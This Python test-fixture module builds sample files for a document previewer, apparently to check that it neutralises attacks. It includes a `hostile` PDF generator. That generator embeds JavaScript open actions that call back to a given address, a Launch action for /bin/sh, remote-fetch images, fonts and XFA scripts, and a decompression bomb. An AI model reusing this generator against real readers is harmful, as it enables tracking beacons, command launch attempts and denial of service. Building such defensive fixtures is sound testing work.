"""Sample files for the preview: from real programs, and from an attacker."""

import zlib
from dataclasses import dataclass

from playwright.sync_api import Playwright

from tests.browser.kit.chromium import PROGRAM, QUIET

WORDS = "De offertes lagen al open op tafel."
SECOND = "Tweede bladzijde."
PAGE = f"""<h1 style="background:#000;color:#fff;-webkit-print-color-adjust:exact">{WORDS}</h1>
<p style="opacity:.5;color:#a00;font-size:4em">Half te zien</p>
<p style="page-break-before:always">{SECOND}</p>"""


@dataclass(frozen=True)
class Drawn:
    """The same page as a program for offices, for screens and for cameras saves it."""

    pdf: bytes
    png: bytes
    jpeg: bytes


def drawn(playwright: Playwright) -> Drawn:
    """Made by Chromium."""
    browser = playwright.chromium.launch(executable_path=PROGRAM, args=list(QUIET))
    try:
        page = browser.new_page(viewport={"width": 640, "height": 480})
        page.set_content(PAGE)
        return Drawn(
            page.pdf(format="A4", print_background=True), page.screenshot(), page.screenshot(type="jpeg")
        )
    finally:
        browser.close()


def png(width: int, height: int) -> bytes:
    """A black picture of one bit a pixel, which takes a thousandth of its room."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        body = kind + content
        return len(content).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")

    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([1, 0, 0, 0, 0])
    row = bytes(1 + -(-width // 8))
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def document(objects: list[bytes], trailer: bytes = b"<</Root 1 0 R>>") -> bytes:
    """A PDF file of these objects, the first of which is its catalogue."""
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, rows)
    inner = trailer[2:-2]
    return out + head + b"trailer\n<</Size %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, inner, len(out))


def stream(content: bytes, more: bytes = b"") -> bytes:
    """A stream object."""
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), more, content)


def locked() -> bytes:
    """A document with an unknown password."""
    keys = b"<</Filter/Standard/V 1/R 2/P -4/O(%s)/U(%s)>>" % (b"x" * 32, b"y" * 32)
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"]
    return document(objects, b"<</Root 1 0 R/ID[<00><00>]/Encrypt%s>>" % keys)


def fax() -> bytes:
    """A page with a black square as scanners write it, which PDF.js has a decoder of its own for."""
    # Each row is as the one above, and the one above the first is white. Here white is nought, and that is drawn black.
    rows = b"\xff" * 8 + b"\x00\x10\x01"
    how = b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 64/Rows 64/BlackIs1 true>>"
    picture = b"/Type/XObject/Subtype/Image/Width 64/Height 64/ColorSpace/DeviceGray/BitsPerComponent 1"
    return document(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>",
            stream(b"q 100 0 0 100 50 50 cm /I Do Q"),
            stream(rows, how + picture),
        ]
    )


def hostile(address: str) -> bytes:
    """All by which a document tries to run something, or to tell `address` that it was opened."""
    there = address.encode("ascii")
    script = b"(app.launchURL\\('%s/js'\\); this.submitForm\\('%s/form'\\); app.alert\\(1\\))" % (
        there,
        there,
    )
    run = b"<</S/JavaScript/JS %s>>" % script
    actions = b" ".join(
        [
            b"<</Type/Annot/Subtype/Link/Rect[0 0 400 400]/A<</S/URI/URI(%s/uri)>>/AA<</PO %s>>>>"
            % (there, run),
            b"<</Type/Annot/Subtype/Link/Rect[0 0 400 400]/A<</S/Launch/F(/bin/sh)/NewWindow true>>>>",
            b"<</Type/Annot/Subtype/Link/Rect[0 0 400 400]/A<</S/GoToR/F(%s/remote.pdf)/D[0/Fit]>>>>" % there,
            b"<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/OP 0/JS %s>>>>" % script,
            b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</F %s/K %s/Fo %s>>>>"
            % (run, run, run),
        ]
    )
    remote = b"<</FS/URL/F(%s/picture.png)>>" % there
    picture = b"/Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceRGB/BitsPerComponent 8"
    xfa = b"<xdp><script>xfa.host.gotoURL('%s/xfa')</script><image href='%s/xfa.png'/></xdp>" % (there, there)
    text = b"BT /F 24 Tf 20 350 Td (Niets aan de hand) Tj ET q 99 0 0 99 20 20 cm /I Do Q q 99 0 0 99 150 20 cm /R Do Q"
    return document(
        [
            b"<</Type/Catalog/Pages 2 0 R/OpenAction %s/AA<</WC %s/DP %s>>/URI<</Base(%s/)>>"
            b"/Names<</JavaScript<</Names[(x) %s]>>>>/AcroForm<</Fields[]/XFA 8 0 R/NeedAppearances true>>>>"
            % (run, run, run, there, run),
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 400]/Contents 4 0 R/AA<</O %s/C %s>>/Annots[%s]"
            b"/Resources<</Font<</F 5 0 R>>/XObject<</I 6 0 R/R 7 0 R>>>>>>" % (run, run, actions),
            stream(text),
            # A font that is to be fetched, with a name that is an address.
            b"<</Type/Font/Subtype/TrueType/BaseFont/%s/FontDescriptor<</Type/FontDescriptor/FontName/x/Flags 32"
            b"/FontFile2 9 0 R>>>>" % there.replace(b":", b"#3a").replace(b"/", b"#2f"),
            # Pictures whose content lies elsewhere, and that ask for a gigabyte.
            b"<<%s/F %s/FFilter/DCTDecode/Length 0>>\nstream\n\nendstream" % (picture, remote),
            stream(
                zlib.compress(bytes(99_999)), b"/Filter/FlateDecode" + picture.replace(b" 9/", b" 60000/")
            ),
            stream(xfa),
            b"<</F %s/Length 0>>\nstream\n\nendstream" % remote,
        ]
    )
